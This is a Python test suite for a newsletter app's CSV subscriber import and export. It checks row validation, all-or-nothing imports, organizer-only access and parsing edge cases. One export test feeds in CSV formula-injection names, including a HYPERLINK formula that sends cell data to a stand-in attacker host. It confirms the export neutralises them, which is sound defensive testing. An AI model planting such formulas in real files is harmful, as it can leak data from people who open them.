"""CSV import and export: every row checked first, problems reported by line, nothing half-imported."""
import io

import pytest
from sqlalchemy import func, select

from community.extensions import db
from community.permissions import NotAllowed
from newsletters import services
from newsletters.models import Subscriber

GOOD = ("email,name,county,consent_date\n"
        "ana.garcia@fresno.example.gov,Ana Garcia,Fresno,2025-03-14\n"
        "brian.lee@kern.example.gov,Brian Lee,Kern County,2025-04-01\n"
        "partner@cfpic.example.org,,,04/20/2025\n")


def _count():
    return db.session.scalar(select(func.count()).select_from(Subscriber))


def test_a_clean_file_imports_confirmed_subscribers_with_their_consent_dates(app, organizer):
    report = services.import_subscribers(organizer, GOOD.encode())
    db.session.commit()
    assert report.added == 3 and report.errors == []
    ana = db.session.scalar(Subscriber.by_email("ana.garcia@fresno.example.gov"))
    assert (ana.status, ana.source, ana.county.name) == ("confirmed", "import", "Fresno")
    assert ana.consent_at.date().isoformat() == "2025-03-14"


def test_any_bad_row_rejects_the_whole_file_with_every_problem_by_line(app, organizer):
    bad = GOOD + ("not-an-address,Someone,,2025-01-01\n"
                  "ana.garcia@fresno.example.gov,Ana again,,2025-01-01\n"
                  "carla@merced.example.gov,Carla,Merced,\n"
                  "dee@x.example.gov,Dee,Atlantis,2025-01-01\n")
    with pytest.raises(services.ImportRejected) as rejected:
        services.import_subscribers(organizer, bad.encode())
    db.session.rollback()
    lines = [line for line, _ in rejected.value.report.errors]
    assert lines == [5, 6, 7, 8]
    messages = " ".join(m for _, m in rejected.value.report.errors)
    assert "not a valid e-mail address" in messages and "already on line 2" in messages
    assert "consent date" in messages and "not a California county" in messages
    assert _count() == 0


def test_addresses_already_on_the_list_keep_their_own_choice(app, organizer, make_subscribers):
    gone = make_subscribers(1, status="unsubscribed")[0]
    data = GOOD + f"{gone.email},Gone,,2025-01-01\n"
    report = services.import_subscribers(organizer, data)
    db.session.commit()
    assert report.added == 3 and report.already == [(5, gone.email)]
    db.session.expire_all()
    assert gone.status == "unsubscribed"


def test_a_file_without_the_needed_columns_or_not_utf8_is_refused(app, organizer):
    with pytest.raises(services.ImportRejected) as rejected:
        services.import_subscribers(organizer, b"mail,name\nx@y.example.gov,X\n")
    assert "missing: email, consent_date" in rejected.value.report.errors[0][1]
    with pytest.raises(services.ImportRejected):
        services.import_subscribers(organizer, "email,consent_date\né,2025-01-01\n".encode("latin-1"))


def test_only_organizers_import(app, make_user):
    with pytest.raises(NotAllowed):
        services.import_subscribers(make_user(), GOOD)


def test_the_import_page_reports_problems_and_imports_nothing(app, client, organizer, sign_in):
    sign_in(organizer)
    bad = GOOD + "oops,Oops,,2025-01-01\n"
    response = client.post("/newsletters/manage/subscribers/import",
                           data={"file": (io.BytesIO(bad.encode()), "list.csv")},
                           content_type="multipart/form-data")
    page = response.get_data(as_text=True)
    assert "Nothing was imported" in page and "Line 5:" in page
    assert _count() == 0
    response = client.post("/newsletters/manage/subscribers/import",
                           data={"file": (io.BytesIO(GOOD.encode()), "list.csv")},
                           content_type="multipart/form-data")
    assert "Imported 3 subscribers" in response.get_data(as_text=True)
    assert _count() == 3


def test_export_is_a_csv_of_everyone_for_organizers_only(app, client, organizer, make_user,
                                                         sign_in, make_subscribers):
    make_subscribers(2)
    make_subscribers(1, status="unsubscribed", prefix="gone")
    sign_in(make_user())
    assert client.get("/newsletters/manage/subscribers.csv").status_code == 404
    client.post("/sign-out")
    sign_in(organizer)
    response = client.get("/newsletters/manage/subscribers.csv")
    rows = response.get_data(as_text=True).strip().splitlines()
    assert response.mimetype == "text/csv"
    assert rows[0].startswith("email,name,county,status,source,consent_at")
    assert len(rows) == 4 and any(",unsubscribed," in r for r in rows)


def test_export_neutralises_names_that_spreadsheets_would_run_as_formulas(app, client, organizer,
                                                                         sign_in):
    import csv

    hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Open")', "+1 555 0100", "-2+3",
               "@SUM(A1:A9)"]
    for n, name in enumerate(hostile):  # typed into the public subscribe form
        client.post("/newsletter/subscribe", data={"email": f"hostile{n}@example.org", "name": name,
                                                   "county_id": "0"})
    for n, name in enumerate(["\t=1+1", "\r=1+1"]):  # however such a name got in (an old import)
        db.session.add(Subscriber(email=f"control{n}@example.org", name=name, status="pending",
                                  source="import"))
    db.session.add(Subscriber(email="plain@example.org", name="Ana García-López", status="pending",
                              source="form"))
    db.session.commit()
    sign_in(organizer)
    rows = list(csv.reader(io.StringIO(
        client.get("/newsletters/manage/subscribers.csv").get_data(as_text=True))))
    names = {row[0]: row[1] for row in rows[1:]}
    for n, name in enumerate(hostile):
        assert names[f"hostile{n}@example.org"] == "'" + name
    assert names["control0@example.org"] == "'\t=1+1"
    assert names["control1@example.org"] == "'\r=1+1"
    assert names["plain@example.org"] == "Ana García-López"  # a hyphen inside is left alone


def test_rows_with_control_characters_far_dates_or_extra_cells_are_reported_by_line(app, organizer):
    hostile = GOOD + ("dana@yolo.example.gov,Dana\x00 Wu,Yolo,2025-01-01\n"
                      "eli@placer.example.gov,Eli,Placer,0001-01-01\n"
                      "fay@napa.example.gov,Fay,Napa,2025-01-01,an extra cell\n")
    with pytest.raises(services.ImportRejected) as rejected:
        services.import_subscribers(organizer, hostile.encode())
    db.session.rollback()
    errors = dict(rejected.value.report.errors)
    assert sorted(errors) == [5, 6] and "control characters" in errors[5]
    assert _count() == 0


def test_a_file_saved_with_old_mac_line_endings_imports(app, organizer):
    report = services.import_subscribers(organizer, GOOD.replace("\n", "\r").encode())
    db.session.commit()
    assert report.added == 3


@pytest.mark.parametrize("data", [
    "email,name,consent_date\nx@fresno.example.gov,\"" + "a" * 140_000 + "\",2025-01-01\n",
    "email,name,consent_date\nx@fresno.example.gov,\"Ana\" Garcia\"\r,2025-01-01\n",
], ids=["field-past-the-csv-limit", "stray-quote-and-line-break"])
def test_a_file_the_csv_reader_cannot_read_is_refused_with_a_message(app, client, organizer, sign_in,
                                                                     data):
    with pytest.raises(services.ImportRejected) as rejected:
        services.import_subscribers(organizer, data.encode())
    db.session.rollback()
    assert rejected.value.report.errors
    sign_in(organizer)
    response = client.post("/newsletters/manage/subscribers/import",
                           data={"file": (io.BytesIO(data.encode()), "list.csv")},
                           content_type="multipart/form-data")
    assert response.status_code in (200, 422) and "Nothing was imported" in response.get_data(as_text=True)
    assert _count() == 0


def test_a_name_longer_than_the_list_keeps_is_refused_not_cut(app, organizer):
    with pytest.raises(services.ImportRejected) as rejected:
        services.import_subscribers(organizer, GOOD + "dee@kern.example.gov," + "D" * 121 + ",,2025-01-01\n")
    assert rejected.value.report.errors == [(5, "The name for dee@kern.example.gov is longer than 120 characters.")]
